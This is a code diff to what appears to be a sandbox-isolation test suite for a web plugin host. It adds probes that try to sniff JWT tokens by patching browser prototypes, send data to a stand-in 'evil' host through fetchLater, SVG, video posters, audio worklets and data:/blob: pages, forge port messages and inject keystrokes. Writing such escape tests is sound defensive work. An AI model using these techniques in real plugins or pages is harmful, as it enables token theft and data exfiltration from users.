@@ -76,6 +76,24 @@ const belongings = ({ host }) => ({
     }
     return unless(seen, 'no request was seen');
   },
+  'token by prototypes': async () => {
+    let seen;
+    const look = values => (seen ??= values.map(value => safely(() => String(value))).find(text => /eyJ[\w-]+\.[\w-]+/.test(text)));
+    const places = [[Headers, 'set'], [Headers, 'append'], [XMLHttpRequest, 'setRequestHeader'], [Response, 'text'], [Response, 'json'], [Promise, 'then'], [MessagePort, 'postMessage']];
+    const originals = places.map(([{ prototype }, name]) => [prototype, name, prototype[name]]);
+    for (const [prototype, name, original] of originals) {
+      prototype[name] = function (...values) {
+        look(values);
+        return original.apply(this, values);
+      };
+    }
+    try {
+      await host.fetch('/api/catalog/entities/by-query?limit=1');
+    } finally {
+      for (const [prototype, name, original] of originals) prototype[name] = original;
+    }
+    return unless(seen, 'no token passed by');
+  },
   'token of an answer': async () => {
     const answer = await host.fetch('/api/catalog/entities/by-query?limit=1');
     return unless(answer.headers.get('authorization') ?? answer.headers.get('set-cookie'), 'none in the answer');
@@ -113,6 +131,7 @@ const connections = ({ evil }) => ({
   WebSocket: () => settled(new WebSocket(evil.replace('http', 'ws')), 'open'),
   EventSource: () => settled(new EventSource(`${evil}/events`), 'open'),
   beacon: () => (navigator.sendBeacon(`${evil}/beacon`, 'x') ? refuse('only a server knows') : refuse('refused')),
+  'fetch later': () => (fetchLater(`${evil}/later?data`, { activateAfter: 0 }), refuse('only a server knows')),
   WebTransport: () => new WebTransport(`${evil.replace('http', 'https')}/transport`).ready,
   WebRTC: async () => {
     const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${evil.slice(7)}` }] });
@@ -144,7 +163,9 @@ const loads = ({ root, evil }) => {
     const element = Object.assign(document.createElement('style'), { textContent: css });
     const text = Object.assign(document.createElement('p'), { className: 'hostile-style', textContent: 'x' });
     root.append(element, text);
-    await new Promise(resolve => setTimeout(resolve, 200));
+    // What a sheet names is loaded once it is needed, which is when the text is drawn.
+    text.scrollIntoView();
+    await new Promise(resolve => setTimeout(resolve, 500));
     element.remove();
     text.remove();
     refuse('only a server knows');
@@ -166,6 +187,14 @@ const loads = ({ root, evil }) => {
     embed: () => add('embed', { src: `${evil}/embed?data` }),
     video: () => settled(Object.assign(document.createElement('video'), { src: `${evil}/video?data`, preload: 'auto' }), 'loadeddata'),
     audio: () => settled(new Audio(`${evil}/audio?data`), 'loadeddata'),
+    poster: () => settled(Object.assign(document.createElement('video'), { poster: `${evil}/poster?data` }), 'loadeddata'),
+    'SVG image': async () => {
+      const drawing = Object.assign(document.createElement('div'), { innerHTML: `<svg><image href="${evil}/svg-image?data"/><use href="${evil}/svg-use?data#a"/></svg>` });
+      root.append(drawing);
+      await new Promise(resolve => setTimeout(resolve, 200));
+      drawing.remove();
+      refuse('only a server knows');
+    },
     'style import': style(`@import url(${evil}/import?data);`),
     'style image': style(`.hostile-style { background: url(${evil}/background?data); }`),
     'style font': style(`@font-face { font-family: hostile; src: url(${evil}/font?data); } .hostile-style { font-family: hostile; }`),
@@ -187,6 +216,7 @@ const code = ({ evil }) => ({
   'javascript: link': () => ran(name => follow({ href: `javascript:globalThis.${name} = true` })),
   'worker of a blob': () => settled(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))), 'message'),
   'worker of data': () => settled(new Worker('data:text/javascript,postMessage(1)'), 'message'),
+  'audio worklet': () => new AudioContext().audioWorklet.addModule(`${evil}/worklet.js?data`).then(() => 'added'),
   'shared worker': () => new SharedWorker(`${evil}/shared.js`).port,
   'service worker': () => navigator.serviceWorker.register('/sw.js'),
 });
@@ -214,9 +244,25 @@ const frames = ({ root, evil }) => {
     'blank frame: WebRTC': () => frame({}, inner => unless(inner.RTCPeerConnection, 'none')),
     'frame of text': heard({ srcdoc: spy }),
     'frame of data': heard({ src: `data:text/html,${encodeURIComponent(spy)}` }),
+    'frame with a script of a blob': () => {
+      const script = URL.createObjectURL(new Blob(["parent.postMessage('spy ran', '*')"], { type: 'text/javascript' }));
+      return heard({ srcdoc: `<script src="${script}"></script>` })();
+    },
+    'frame of the same text: WebRTC': () => frame({ srcdoc: `<script>${document.scripts[0]?.textContent}</script>` }, again),
     'frame of a blob': heard({ src: URL.createObjectURL(new Blob([spy], { type: 'text/html' })) }),
   };
 };
+
+/** Starts what this document is made of once more, in a frame of the plugin's, and looks what is there. */
+function again(inner) {
+  const { port1: port, port2 } = new MessageChannel();
+  const source = `export const apiVersion = 1; export function mount() { parent.postMessage('again ' + typeof RTCPeerConnection, '*'); return { unmount() {} }; }`;
+  const told = new Promise(resolve => addEventListener('message', ({ data }) => /^again /.test(data) && resolve(data)));
+  inner.postMessage('port', '*', [port2]);
+  port.postMessage({ is: 'start', source, url: 'again.js', extension: {}, subpath: '', entityHref: '', title: '', tokens: '', base: '' });
+  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), 500));
+  return Promise.race([told, late]).then(data => (data === 'again function' ? data : refuse('not there either')));
+}
 
 /** Requests through the portal that are not declared. */
 function requests({ host, evil, lure }) {
@@ -257,6 +303,14 @@ const powers = () => ({
   geolocation: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
   notifications: async () => ((await Notification.requestPermission()) === 'granted' ? 'granted' : refuse('denied')),
   camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
+  'screen capture': () => navigator.mediaDevices.getDisplayMedia(),
+  'pointer lock': () => document.documentElement.requestPointerLock(),
+  'size of the page around': () =>
+    new Promise((resolve, reject) => {
+      // Without a root it is the page's; frames of other origins are not told its bounds.
+      new IntersectionObserver(([{ rootBounds }]) => (rootBounds ? resolve(rootBounds.width) : reject(new Error('not told')))).observe(document.body);
+    }),
+  'size of the window': () => unless(outerWidth || undefined, 'not told'),
   'full screen': () => document.documentElement.requestFullscreen(),
   'storage access': () => document.requestStorageAccess(),
   alert: () => (alert('hostile'), refuse('only a reader knows')),
@@ -283,8 +337,13 @@ const forgeries = ({ host }) => ({
     MessagePort.prototype.postMessage = postMessage;
     if (!port) refuse('there is none');
     const answers = [];
-    port.addEventListener('message', ({ data }) => String(data?.id).startsWith('forged') && answers.push(data));
-    const call = (name, args, id = `forged ${name}`) => postMessage.call(port, { is: 'call', id, name, args });
+    const forged = new Map();
+    port.addEventListener('message', ({ data }) => forged.has(data?.id) && answers.push(data));
+    const call = (name, args) => {
+      const id = 1e9 + forged.size;
+      forged.set(id, name);
+      postMessage.call(port, { is: 'call', id, name, args });
+    };
     for (const name of ['constructor', '__proto__', 'toString', 'eval', 'fetch', 'read', 'write']) call(name, ['/api/auth/guest/refresh']);
     call('fetch', '/api/catalog');
     call('fetch', [{ toString: 1 }]);
@@ -293,7 +352,9 @@ const forgeries = ({ host }) => ({
     const noise = [null, 7, 'text', [], { is: '__proto__' }, { is: 'constructor' }, { is: 'height', height: 1e9 }, { is: 'height', height: NaN }, { is: 'height', height: -5 }, { is: 'key', key: 'Delete' }, { is: 'cancel', id: 'nobody' }, { is: 'notify', message: { a: 1 }, kind: [] }, { is: 'call' }, { is: 'call', id: {}, name: {}, args: {} }];
     for (const message of noise) postMessage.call(port, message);
     await new Promise(resolve => setTimeout(resolve, 500));
-    const good = answers.filter(({ id, error }) => !error && !['forged read', 'forged write'].includes(id));
+    // One's own storage is all that may answer.
+    const good = answers.filter(({ id, error }) => !error && !['read', 'write'].includes(forged.get(id)));
+    if (answers.length !== forged.size) return `${answers.length} answers to ${forged.size} calls`;
     return good.length ? JSON.stringify(good) : refuse(`${answers.length} answers, and all refuse`);
   },
   'prototype of the portal': () => {
@@ -326,10 +387,32 @@ const endings = {
     form.submit();
   },
   download: () => follow({ href: 'data:text/plain,hostile', download: 'hostile.txt' }),
+  data: ({ evil }) => (location.href = `data:text/html,${encodeURIComponent(letter(evil))}`),
+  blob: ({ evil }) => (location.href = URL.createObjectURL(new Blob([letter(evil)], { type: 'text/html' }))),
+  again: () => location.reload(),
+  keys: pressKeys,
   back: () => history.back(),
   code: ({ host }) => host.navigate('javascript:globalThis.hostile = true'),
+  'code-as-data': ({ host, evil }) => host.navigate(`data:text/html,${letter(evil)}`),
+  'navigate-relative': ({ host, evil }) => host.navigate(`${evil.replace('http:', '')}/navigate?data`),
   navigate: ({ host, evil }) => host.navigate(`${evil}/navigate?data`),
 };
+
+/** A document that writes home in every way it can. */
+const letter = evil => `<script>fetch('${evil}/letter'); new Image().src = '${evil}/letter-image'; new RTCPeerConnection({ iceServers: [{ urls: 'stun:${evil.slice(7)}' }] }).createDataChannel('x')</script><img src="${evil}/letter-plain">`;
+
+/** Keys that nobody pressed, by events and by messages in the document's name. */
+function pressKeys({ root, host }) {
+  const { postMessage } = MessagePort.prototype;
+  MessagePort.prototype.postMessage = function (...values) {
+    postMessage.apply(this, values);
+    for (const key of ['/', '?']) postMessage.call(this, { is: 'key', key });
+    postMessage.call(this, { is: 'key', key: 'k', ctrlKey: true });
+  };
+  host.storage.get('x');
+  MessagePort.prototype.postMessage = postMessage;
+  for (const key of ['/', '?']) root.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
+}
 
 function follow(attributes) {
   const link = Object.assign(document.createElement('a'), attributes);
